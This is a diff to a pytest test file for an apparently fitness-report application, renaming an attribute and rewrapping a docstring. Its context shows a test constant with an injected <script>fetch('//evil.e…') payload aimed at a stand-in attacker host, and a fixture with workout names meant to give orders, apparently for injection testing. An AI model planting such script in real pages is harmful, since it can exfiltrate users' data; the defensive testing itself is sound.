@@ -48,7 +48,8 @@ SCRIPT = "**Readiness** averaged {readiness_score.week}. <script>fetch('//evil.e
 
 @pytest.fixture(scope="module")
 def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """120 days of the demo person and of another user, whose workouts have names that try to give orders."""
+    """120 days of the demo person and of another user, whose workouts have names that try to give
+    orders."""
     folder = tmp_path_factory.mktemp("home")
     truth, lake = simulate(120, 2, SUNDAY), lake_in(folder)
     daily, workouts = list(daily_rows(truth)), list(workout_rows(truth))
@@ -96,9 +97,9 @@ def asking(
 
 
 def another_weekday(home: Path) -> str:
-    highs = build.composed(lake_in(home), "me", SUNDAY).contents.moments
+    highs = build.composed(lake_in(home), "me", SUNDAY).contents.highs
     return next(
-        day for day in WEEKDAYS if day not in {WEEKDAYS[moment.day.weekday()] for moment in highs}
+        day for day in WEEKDAYS if day not in {WEEKDAYS[high.day.weekday()] for high in highs}
     )
 
 
